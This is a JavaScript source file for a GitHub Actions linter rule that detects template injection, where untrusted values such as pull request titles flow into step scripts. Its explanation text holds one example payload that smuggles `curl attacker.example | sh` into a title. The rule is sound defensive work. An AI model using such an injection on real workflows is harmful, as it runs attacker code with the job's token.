import { defineRule } from '../rule.js';
import { environmentOf, originsIn } from '../workflow/environment.js';
import { isUntrusted } from '../workflow/expressions.js';
import { textOf } from '../yaml-values.js';

export default defineRule({
  id: 'GHA-INJECT',
  name: 'no-template-injection',
  severity: 'high',
  practice: 'image-security',
  title: 'Untrusted text becomes part of a script',
  why: 'GitHub puts the value into the script before the shell reads it. A title such as `"; curl attacker.example | sh; "` runs as a command with the token of the job.',
  remediation:
    'Put the value into `env` of the step, and use the variable in the script: `"$TITLE"`',
  references: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  wrong: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ github.event.pull_request.title }}"`,
  right: `on: pull_request\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: \${{ github.event.pull_request.title }}\n        run: echo "$TITLE"`,
  check(manifest, report) {
    const { workflow } = manifest;
    for (const { id, node, steps } of workflow?.jobs ?? [])
      for (const step of steps) {
        const script =
          step.run ?? (SCRIPTS.test(step.uses?.name ?? '') ? step.with.get('script') : undefined);
        if (!script || !workflow) continue;
        const environment = environmentOf(workflow.node, node, step.node);
        const chosen = originsIn(textOf(script), environment).filter(isUntrusted);
        for (const value of new Set(chosen))
          report({
            at: script.key,
            about: `${id} ${value}`,
            message: `Anyone can put commands into the script of job ${id} by ${value}`,
          });
      }
  },
});

const SCRIPTS = /^actions\/github-script$/;
